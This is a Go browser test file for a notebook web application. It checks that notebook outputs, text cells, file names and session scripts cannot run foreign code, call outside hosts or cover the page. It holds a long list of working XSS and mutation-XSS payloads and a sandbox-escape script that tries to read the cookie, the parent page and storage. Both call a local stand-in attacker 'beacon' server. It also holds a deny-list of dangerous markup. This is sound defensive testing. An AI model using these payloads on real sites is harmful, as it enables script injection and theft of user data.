package browser

import (
	"fmt"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"nacre/internal/heavy"
	"nacre/internal/loopback"
	shows "nacre/library/display"
)

// beacon is a server of somebody else's: a hostile notebook wants the browser to call it.
func beacon(t *testing.T) (url string, calls *atomic.Int64, last *atomic.Value) {
	t.Helper()
	calls, last = new(atomic.Int64), new(atomic.Value)
	l, err := loopback.Listen()
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		last.Store(r.URL.String())
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, "window.pwned = 1; try { parent.pwned = 1 } catch {}")
	})}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { srv.Close() })
	return "http://" + l.Addr().String(), calls, last
}

// hostileHTML are the ways in which HTML has run code, called home or covered the page in notebooks and sanitisers; B
// stands for the beacon's address.
var hostileHTML = []string{
	`<script>parent.pwned = window.pwned = 1; fetch('B/script')</script>`,
	`<img src=x onerror="window.pwned=1;fetch('B/onerror')">`,
	`<img src="B/img.png">`,
	`<img srcset="B/srcset.png 1x">`,
	`<picture><source srcset="B/source.png"><img alt=x></picture>`,
	`<svg onload="window.pwned=1"></svg>`,
	`<svg><script>window.pwned=1</script></svg>`,
	`<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s></svg>`,
	`<svg><use href="B/use.svg#x"></use></svg>`,
	`<svg><image href="B/image.png"/></svg>`,
	`<svg><style>@import url(B/import.css);</style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>`,
	`<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`,
	`<template><img src=x onerror=window.pwned=1></template>`,
	`<iframe src="javascript:parent.pwned=1"></iframe>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<iframe src="B/frame.html"></iframe>`,
	`<object data="B/object.html"></object><embed src="B/embed.html">`,
	`<link rel=stylesheet href="B/style.css"><link rel=preload as=image href="B/preload.png"><link rel=prefetch href="B/prefetch">`,
	`<style>@import url(B/style.css); body { background: url(B/bg.png) } .top { display: none }</style>`,
	`<div style="background:url(B/inline.png)">x</div>`,
	`<div style="background:u\72l(B/escaped.png)">x</div>`,
	`<div style="position:fixed;inset:0;z-index:9999;background:red">covered</div>`,
	`<meta http-equiv="refresh" content="0;url=B/refresh">`,
	`<base href="B/">`,
	`<a href="javascript:window.pwned=1" id=evil>x</a>`,
	`<a href="data:text/html,<script>parent.pwned=1</script>">x</a>`,
	`<form action="B/form" id=f><input name=attributes><button autofocus>go</button></form>`,
	`<form id=nacre><input name=notebook></form><img name=nacre><a id=saving></a>`,
	`<details open ontoggle="window.pwned=1">x</details>`,
	`<input autofocus onfocus="window.pwned=1">`,
	`<video src="B/video.mp4" poster="B/poster.png" onloadstart="window.pwned=1"></video>`,
	`<audio src="B/audio.mp3" autoplay></audio>`,
	`<body onload="window.pwned=1"><div onpointerover="window.pwned=1">x</div>`,
	`<marquee onstart="window.pwned=1">x</marquee>`,
	`<x onclick=window.pwned=1 tabindex=1 contenteditable onfocus=window.pwned=1>x</x>`,
	`<!--><img src=x onerror=window.pwned=1>-->`,
	`<button popovertarget=p>x</button><div popover id=p onbeforetoggle=window.pwned=1>x</div>`,
	`<dialog open>covered</dialog>`,
	`<table background="B/table.png"><tr><td background="B/td.png">x</td></tr></table>`,
	`<div id="cookie" class="top banner menu">x</div><div id=live>x</div>`,
}

func withBeacon(list []string, url string) []string {
	var out []string
	for _, h := range list {
		out = append(out, strings.ReplaceAll(h, "B/", url+"/"))
	}
	return out
}

// calm fails if the page ran foreign code, called home, lost itself, or shows something over its own bar.
func calm(t *testing.T, p *tab, calls *atomic.Int64, last *atomic.Value, what string) {
	t.Helper()
	time.Sleep(300 * time.Millisecond) // what does not happen has no event to wait for
	if eval[bool](p, "'pwned' in window") {
		t.Errorf("%s: foreign code ran in the page", what)
	}
	if n := calls.Load(); n > 0 {
		t.Errorf("%s: %d requests left for another machine, the last %v", what, n, last.Load())
		calls.Store(0)
	}
	if eval[bool](p, "document.cookie.includes('pwned') || location.pathname.indexOf('/notebooks/') !== 0") {
		t.Errorf("%s: the page is not where it was", what)
	}
	if !eval[bool](p, "document.elementFromPoint(40, 20)?.closest('.top') !== null && !!nacre.notebook.cells.length "+
		"&& document.querySelectorAll('#live').length === 1") {
		t.Errorf("%s: the page's own parts are covered or replaced", what)
	}
}

// hostileOutputs are outputs of a file that want to run code or to call url.
func hostileOutputs(url string) (outputs []map[string]any) {
	for _, h := range withBeacon(hostileHTML, url) {
		outputs = append(outputs, display(map[string]any{"text/html": h}), display(map[string]any{"text/markdown": h}),
			display(map[string]any{"image/svg+xml": h}))
	}
	return append(outputs,
		display(map[string]any{"text/markdown": "![x](" + url + "/md.png) [y](javascript:window.pwned=1) <" +
			url + "/auto>"}),
		display(map[string]any{"text/latex": `$\href{javascript:window.pwned=1}{x} \url{` + url +
			`} \includegraphics{` + url + `/tex.png} \htmlData{onload=alert}{y}$`}),
		display(map[string]any{"image/png": `"><img src=x onerror=window.pwned=1>`}),
		display(map[string]any{"text/plain": "<img src=x " +
			"onerror=window.pwned=1>\x1b]8;;javascript:window.pwned=1\x07link\x1b]8;;\x07"}),
		display(map[string]any{shows.EmbeddingMIME: map[string]any{"version": 1, "n": 1, "encoding": "float32",
			"points": "AAAAAAAAAAA=", "labels": []int{0}, "label_names": []string{"<img src=x onerror=window.pwned=1>"},
			"hover": []string{"<script>window.pwned=1</script>"}, "title": "<b onclick=window.pwned=1>x"}}),
		display(map[string]any{shows.CurvesMIME: map[string]any{"version": 1,
			"title": "<img src=x onerror=window.pwned=1>",
			"series": []any{map[string]any{"name": "<img src=x onerror=window.pwned=1>", "x": []int{0, 1},
				"y": []int{0, 1}}}}}),
		map[string]any{"output_type": "stream", "name": "stdout", "text": "\x1b[31m<script>window.pwned=1</script>"},
		map[string]any{"output_type": "error", "ename": "<b>", "evalue": "<img src=x onerror=window.pwned=1>",
			"traceback": []string{"<img src=x onerror=window.pwned=1> 1:2"}},
	)
}

func TestHostileOutputsFromFile(t *testing.T) {
	heavy.Skip(t, "a browser works on it for seconds")
	url, calls, last := beacon(t)
	s := newSite(t, map[string]any{"a.ipynb": withOutputs(hostileOutputs(url)...)})
	p := s.open("/notebooks/a.ipynb")
	calm(t, p, calls, last, "outputs of the file")
	if n := eval[int](p, "document.querySelectorAll('.outputs iframe').length"); n != 0 {
		t.Errorf("%d frames run scripts of the file before anybody asked", n)
	}
	if n := eval[int](p, "[...document.querySelectorAll('.outputs a')].filter(a => "+
		"/^(javascript|data):/i.test(a.getAttribute('href') ?? '')).length"); n != 0 {
		t.Errorf("%d links run code", n)
	}
	// Clicking everything that a reader may click changes nothing either.
	eval[any](p, "document.querySelectorAll('.outputs *:not(a):not(button)').forEach(e => e.click?.())")
	calm(t, p, calls, last, "clicks on outputs of the file")
}

func TestHostileText(t *testing.T) {
	heavy.Skip(t, "a browser works on it for seconds")
	url, calls, last := beacon(t)
	var sources []string
	for _, h := range withBeacon(hostileHTML, url) {
		sources = append(sources, "# cell\n\n"+h, "# <b>"+h+"</b>")
	}
	nb := notebook(sources...)
	nb["metadata"] = map[string]any{"title": `<img src=x onerror=window.pwned=1>`,
		"kernelspec": map[string]any{"name": "<script>window.pwned=1</script>", "display_name": "x"}}
	s := newSite(t, map[string]any{"<img src=x onerror=window.pwned=1>.ipynb": notebook("print x"), "a.ipynb": nb})
	p := s.open("/notebooks/a.ipynb")
	calm(t, p, calls, last, "text cells")
	html := p.exported()
	for _, bad := range []string{"<script", "onerror=", "onload=", "javascript:", "<iframe", "<object", "<base",
		"http-equiv=\"refresh"} {
		body := html[strings.Index(html, "<body>"):]
		if i := strings.Index(strings.ToLower(body), bad); i >= 0 && !strings.Contains(body[max(0, i-60):i], "title=") {
			t.Errorf("the exported HTML has %s: …%.120s", bad, body[max(0, i-60):])
		}
	}
	q := s.open("/tree")
	if eval[bool](q, "'pwned' in window") {
		t.Error("a file's name ran code in the list")
	}
}

// Scripts of outputs that were made since the page was opened do run, where they can reach nothing.
func TestScriptsRunInTheirOwnWorld(t *testing.T) {
	heavy.Skip(t, "a browser works on it for seconds")
	url, calls, last := beacon(t)
	script := `<p id=here>waiting</p><script>
const said = [];
const attempt = (name, f) => { try { said.push(name + ' ' + f()) } catch (e) { said.push(name + ' refused') } };
attempt('dom', () => parent.document.title);
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('top', () => { top.location = 'B/top' });
attempt('opener', () => window.open('B/open'));
new Image().src = 'B/img';
navigator.sendBeacon('B/beacon');
fetch('B/fetch').catch(() => {});
fetch('/api/contents', { credentials: 'include' }).then(() => said.push('api answered')).catch(() => {});
const s = document.createElement('script'); s.src = 'B/script.js'; document.head.append(s);
try { new WebSocket('ws' + 'B/ws'.slice(4)) } catch {}
try { new Worker('B/worker.js') } catch {}
const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'B/css'; document.head.append(l);
setTimeout(() => { document.getElementById('here').textContent = said.join('; '); parent.postMessage({ said: said.join('; ') }, '*'); location.href = 'B/navigate'; }, 150);
</script>`
	script = strings.ReplaceAll(strings.ReplaceAll(script, "\n", " "), "B/", url+"/")
	s := newSite(t, map[string]any{"a.ipynb": notebook("show text/html " + script)})
	p := s.open("/notebooks/a.ipynb")
	eval[any](p, "addEventListener('message', e => { if (e.data?.said) window.said = e.data.said })")
	p.press("Ctrl-Enter")
	p.idle()
	p.await("window.said")
	said := eval[string](p, "window.said")
	for _, want := range []string{"dom refused", "cookie refused", "storage refused"} {
		if !strings.Contains(said, want) {
			t.Errorf("in the frame: %s; expected %s", said, want)
		}
	}
	if strings.Contains(said, "api answered") {
		t.Error("the frame reached the server's interface")
	}
	calm(t, p, calls, last, "a script of this session")
}

// Everything one can use has a name, and the keyboard reaches it.
func TestAccessibility(t *testing.T) {
	s := newSite(t, map[string]any{"a.ipynb": notebook("# Title", "print one", "embedding 8", "input Name")})
	p := s.open("/notebooks/a.ipynb")
	eval[any](p, "nacre.running.range(0, 3).then(() => null)")
	p.idle()
	p.press("f")
	nameless := `[...document.querySelectorAll('button, a[href], input, select, textarea, [role=button], [tabindex="0"], [contenteditable=true]')]
		.filter(e => e.checkVisibility()).filter(e => !(e.getAttribute('aria-label') || e.innerText?.trim() || e.title || e.labels?.[0]?.innerText))
		.map(e => e.outerHTML.slice(0, 120)).join('\n')`
	if got := eval[string](p, nameless); got != "" {
		t.Errorf("without a name:\n%s", got)
	}
	p.press("Escape")
	for what, selector := range map[string]string{"main": "main[aria-label]", "toolbar": "[role=toolbar][aria-label]",
		"live region": "#live[aria-live=polite]", "plot": ".viewport[tabindex='0'][aria-label*='tasks']"} {
		if !eval[bool](p, "!!document.querySelector(`"+selector+"`)") {
			t.Errorf("there is no %s", what)
		}
	}
	if n := eval[int](p, "document.querySelectorAll('.cell[tabindex=\"0\"]').length"); n != 1 {
		t.Errorf("%d cells are in the order of Tab, expected the current one", n)
	}
	if label := eval[string](p, "document.querySelectorAll('.cell')[1].getAttribute('aria-label')"); label != "Code "+
		"cell, run as 1" {
		t.Errorf("a cell is called %q", label)
	}
	// From the notebook Tab goes on into the page, and a menu gives the focus back.
	eval[any](p, "document.querySelector('.top button[aria-label=Menu]').focus()")
	p.press("Enter")
	p.await("document.activeElement.closest('[role=menu]')")
	p.press("ArrowDown", "Escape")
	p.await("document.activeElement.getAttribute('aria-label') === 'Menu'")
	eval[any](p, "nacre.selection.set(2, 'command'); nacre.focus()")
	p.press("Tab")
	if !eval[bool](p, "document.querySelectorAll('.cell')[2].contains(document.activeElement)") {
		t.Error("Tab leaves the cell without reaching its parts")
	}
	p.quiet()
}
